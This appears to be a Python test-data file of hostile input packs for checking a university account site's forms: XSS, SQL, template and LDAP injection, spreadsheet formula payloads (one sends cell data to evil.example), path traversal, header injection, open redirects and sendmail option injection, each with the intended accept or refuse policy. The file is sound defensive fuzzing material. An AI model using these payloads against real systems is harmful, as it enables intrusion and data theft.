"""Hostile input for every address and form: the packs of hostile values of the security checklist.

A `str` is sent as UTF-8; `bytes` are raw percent-encoded octets, sent as they are in the body. In NEXT, `univ-x.fr`
stands for the host under test. What is wanted stands beside each EMAIL and PASSWORD value. Where the checklist multiplies
7 by 7, the product here is COMPUTED: 49 is in many a time of day.
"""

# The packs keep the shape of the checklist, so that the two can be compared line by line.
# ruff: noqa: PT018
# fmt: off

#: What a template language would have made of the packs.
COMPUTED = "999999"

N = {  # 40 universal values: throw each one at EVERY text field of EVERY public form
"N01": "",                                              # empty
"N02": "   \t  ",                                       # blanks only
"N03": "\u200b",                                        # zero-width space only (CharField says non-empty)
"N04": "\x00",                                          # NUL only
"N05": "a\x00b",                                        # NUL inside
"N06": "a\r\nBcc: victime@example.org",                 # header injection CRLF
"N07": "a\nX-Injecte: 1\n\ncorps",                      # header injection LF + body
"N08": "a%0d%0aBcc:victime@example.org",                # encoded CRLF (must stay literal)
"N09": "<script>alert(1)</script>", "N10": "\"><img src=x onerror=alert(1)>",
"N11": "</title></textarea><svg/onload=alert(1)>", "N12": "'-alert(1)-'",
"N13": "javascript:alert(document.cookie)//http://", "N14": "{{7*142857}}{% debug %}{{ settings.SECRET_KEY }}",
"N15": "{0.__class__.__mro__}{user.password}%(user)s${7*142857}#{7*142857}",
"N16": "' OR '1'='1' --", "N17": "1'; SELECT pg_sleep(5); --",
"N18": "%' ESCAPE '\\' --_%",                           # LIKE wildcards
"N19": "*)(uid=*))(|(uid=*",                            # LDAP filter
"N20": "jdupont,ou=people\\00\\2a",                     # LDAP DN / hex escapes
"N21": "=HYPERLINK(\"https://evil.example/?x=\"&A1,\"clic\")", "N22": "@SUM(1+1)*cmd|' /C calc'!A0",
"N23": "\t=1+1",                                        # formula behind a tab
"N24": "-2+3+cmd|' /C calc'!A0", "N25": "../../../../etc/passwd", "N26": "..%2f..%2f..%2fetc%2fpasswd%00.png",
"N27": "\u202egpj.exe",                                 # RTL override
"N28": "\u2067abc\u2069\u2066def\u2069",                # bidi isolates
"N29": "\ufeffabc\u00ad\u2060d",                        # BOM, soft hyphen, word joiner
"N30": "\ufb00\u00bd\u0133\u2126",                      # NFKC-expanding: ff ligature, 1/2, ij, ohm
"N31": "\u0130\u0131\u017f\u212a",                      # dotted I, dotless i, long s, Kelvin sign
"N32": "E\u0301le\u0301onore",                          # NFD 'Éléonore'
"N33": "Z" + "\u0301\u0302\u0303" * 80,                 # zalgo
"N34": "\U0001f469\u200d\U0001f469\u200d\U0001f467\U0001f1eb\U0001f1f7",  # ZWJ emoji + flag
"N35": b"%ED%A0%80",                                    # UTF-8-encoded lone surrogate
"N36": b"%FF%FE%C0%AF",                                 # invalid UTF-8 / overlong slash
"N37": "\x1b[31mROUGE\x1b[0m\x07\x08",                  # ANSI escape, BEL, BS
"N38": "\x85\u2028\u2029\x0b\x0c",                      # exotic line separators
"N39": "A" * 100_000,                                   # long
"N40": "a@" * 20_000 + "!",                             # ReDoS bait
}
EMAIL = [  # value, policy wanted for recovery / forwarding / contact address
("jean.dupont@exemple.fr", "accept"), (" jean.dupont@exemple.fr ", "accept, trimmed"),
("Jean.Dupont@EXEMPLE.FR", "accept; domain lower-cased; local part kept"), ("o'brien+um@exemple.fr", "accept"),
("jean@universit\u00e9.fr", "accept as punycode (xn--) or refuse; never store raw"),
("jean@xn--universit-j4a.fr", "same canonical key as the line above"),
("je\u0131n@exemple.fr", "refuse (non-ASCII local part)"),
("mike@g\u0131thub.com", "refuse or punycode; must NOT match mike@github.com"),
("\u212aevin@exemple.fr", "refuse; must NOT match kevin@exemple.fr"),
("jean@\u0430pple.fr", "punycode only; shown as xn--"), ("jean@exemple.fr\u202e", "refuse"),
("jean\u200b@exemple.fr", "refuse"), ("\ufeffjean@exemple.fr", "refuse"),
("jean@mail.univ-x\u3002fr", "refuse, or canonicalise to mail.univ-x.fr BEFORE the own-domain test"),
("jean@univ-x.fr.", "refuse"), ("jean@UNIV-X.FR", "own domain: refuse as forwarding/recovery target"),
("jean@mail.univ-x.fr", "own sub-domain: refuse as target"), ("jean@localhost", "refuse"),
("jean@[127.0.0.1]", "refuse"), ("jean@[::1]", "refuse"), ("jean@127.0.0.1", "refuse"), ("jean@exemple", "refuse"),
("\"jean dupont\"@exemple.fr", "refuse"), ("\"a\\\"b\"@exemple.fr", "refuse (quoted local part)"),
("\"\x01\"@exemple.fr", "refuse (control character)"), ("\"<script>alert(1)</script>\"@exemple.fr", "refuse"),
("jean@exemple.fr,attaquant@evil.example", "refuse"), ("jean@exemple.fr;attaquant@evil.example", "refuse"),
("jean@exemple.fr\r\nBcc: victime@example.org", "refuse, no 5xx, no mail"), ("jean@exemple.fr\n", "accept trimmed"),
("jean\x00@exemple.fr", "refuse"), ("Jean <jean@exemple.fr>", "refuse"),
("jean%evil.example@exemple.fr", "refuse (percent-hack route)"),
("evil.example!jean@exemple.fr", "refuse (bang path)"), ("|cat@exemple.fr", "refuse (pipe: some MTAs alias files)"),
("-oQ/tmp@exemple.fr", "refuse (option injection to sendmail)"),
("a" * 65 + "@exemple.fr", "refuse (local part > 64)"), ("a" * 250 + "@exemple.fr", "refuse (total > 254)"),
("a@" + "b" * 64 + ".fr", "refuse (label > 63)"), ("{{7*142857}}@exemple.fr", "refuse or inert"),
]
PASSWORD = [  # value, wanted (min length 15 policy; adapt the first ones if 12 is chosen)
("motdepasse123", "refuse"), ("azertyuiop123", "refuse"), ("Azerty123456!", "refuse"),
("universite2026", "refuse"), ("Montpellier34!", "refuse"), ("Bonjour2026!!", "refuse"),
("aaaaaaaaaaaaaaa", "refuse (repetition)"), ("123456789012345", "refuse"),
("azertyuiopqsdfg", "refuse (keyboard walk)"), ("jean.dupont@exemple.fr", "refuse (own address)"),
("correct horse battery staple", "accept"), ("  deux espaces autour  ", "accept, not stripped"),
("cheval-agrafe-pile-correct", "accept"), ("\u00e9l\u00e9phant-\u00e9t\u00e9-violet", "accept; NFC and NFD log in alike"),
("\U0001f418" * 15, "accept or refuse with a clear message, never 5xx"), ("a\x00bcdefghijklmnop", "refuse"),
("x7" * 32, "64 characters: accept"), ("x7Q" * 43, "129 characters: accept, or refuse with a message; never truncate"),
("x" * 1_000_000, "refuse fast (< 500 ms), no hash computed"), ("motdepasse\nmultiligne1", "refuse or exact round-trip"),
]
PHONE = ["06 12 34 56 78", "+33 6 12 34 56 78", "0033612345678", "+33 (0)6.12.34.56.78", "06-12-34-56-78",
 "\u0660\u0666\u0661\u0662\u0663\u0664\u0665\u0666\u0667\u0668", "+1 212 555 0100", "112", "0899 700 000", "+33612345678;ext=9",
 "tel:+33612345678", "=+33612345678", "00000000000000000000", "06 12 34 56"]
INE = ["0123456789A", "123456789AB", "0123456789a", " 0123456789A ", "012345678A", "0123456789AB", "\uff10123456789A",
 "0123456789O", "'0123456789A", "1234567890123", "185057800608436", "***********"]
BIRTH = ["29/02/1984", "29/02/1985", "31/04/1980", "1/1/1980", "01-01-1980", "1980-01-01", "01/01/68", "01/01/0001",
 "31/12/9999", "2030-01-01", "00/00/0000", "13/13/1980", "1er janvier 1980", "\uff11\uff19\uff18\uff10-01-01", "-1", "01/01/1980\x00"]
TOKEN = ["/", "x", "%00", "abc%0d%0aSet-Cookie:a=b", "%ff%fe", "..%2f..%2fadmin", "A" * 9000]
NEXT = ["https://evil.example/", "//evil.example", "///evil.example", "/\\evil.example", "\\\\evil.example", "https:evil.example",
 "javascript:alert(1)", "data:text/html,x", "https://compte.univ-x.fr@evil.example/", "https://compte.univ-x.fr.evil.example/",
 "/%2f%2fevil.example", "/%5cevil.example", " https://evil.example", "/a\r\nX-Inj: 1", "/logout/"]
assert len(N) == 40 and len(EMAIL) == 40
